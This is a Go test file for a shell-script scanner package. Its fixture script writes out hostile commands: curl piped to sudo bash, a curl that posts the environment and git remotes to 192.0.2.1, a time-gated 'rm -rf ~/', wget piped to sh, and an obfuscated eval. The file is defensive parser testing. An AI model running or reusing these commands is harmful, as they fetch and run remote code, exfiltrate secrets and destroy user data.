package shellscan

import (
	"strings"
	"testing"
)

func TestFlatten(t *testing.T) {
	s := Parse([]byte(`#!/bin/sh
u=https://example.com/x.sh
curl -fsSL "$u" | sudo bash -s -- --yes
x=$(git remote -v)
curl -d "$x $(env)" http://192.0.2.1/up || true
if [ "$(date +%s)" -gt 1700000000 ]; then rm -rf ~/; fi
sh -c "wget -qO- http://example.com | sh"
eval $'\x65\x63\x68\x6f hi'
`))
	var got []string
	for _, c := range s.Cmds {
		got = append(got, Printable(strings.Join(c.Args, " ")))
	}
	t.Logf("%q", got)
	if s.Broken || len(s.Cmds) < 8 {
		t.Fatalf("broken=%v cmds=%q", s.Broken, got)
	}
	var pipe []int
	for i, c := range s.Cmds {
		if c.Name() == "bash" {
			pipe = s.PipeStages(c.Pipe)
			if !c.Last || c.Stage != 1 || len(pipe) != 2 || s.Cmds[pipe[0]].Args[2] != "https://example.com/x.sh" {
				t.Errorf("pipeline: %+v %v", c, pipe)
			}
			_ = i
		}
		if c.Name() == "rm" && len(c.Guards) != 1 {
			t.Errorf("rm not guarded: %+v", c)
		}
		if c.Name() == "eval" && (c.Escapes != 4 || c.Args[1] != "echo hi") {
			t.Errorf("eval: %+v", c)
		}
		if c.Name() == "curl" && len(c.Args) > 2 && c.Args[1] == "-d" {
			ids := Tokens(c.Args[2])
			if len(ids) != 2 {
				t.Errorf("tokens: %q", c.Args[2])
			}
			for _, id := range ids {
				if cmds := s.SubstCmds(id); len(cmds) != 1 {
					t.Errorf("subst %d: %v", id, cmds)
				}
			}
		}
	}
	inner := 0
	for _, c := range s.Cmds {
		if c.Name() == "wget" && c.Subst > 0 && s.Subst(c.Subst).Kind == Inner {
			inner++
		}
	}
	if inner != 1 {
		t.Errorf("sh -c string not parsed")
	}
}

func TestHostile(t *testing.T) {
	for _, src := range []string{
		strings.Repeat("(", 100000),
		strings.Repeat("$(", 5000) + "x",
		"cat <<EOF\nunterminated",
		"echo \"unterminated",
		strings.Repeat("a", 10<<20),
		strings.Repeat("x=$(y)\n", 30000),
		strings.Repeat("{ ", 100) + "curl x | sh" + strings.Repeat("; }", 100),
	} {
		s := Parse([]byte(src))
		_ = s
	}
}
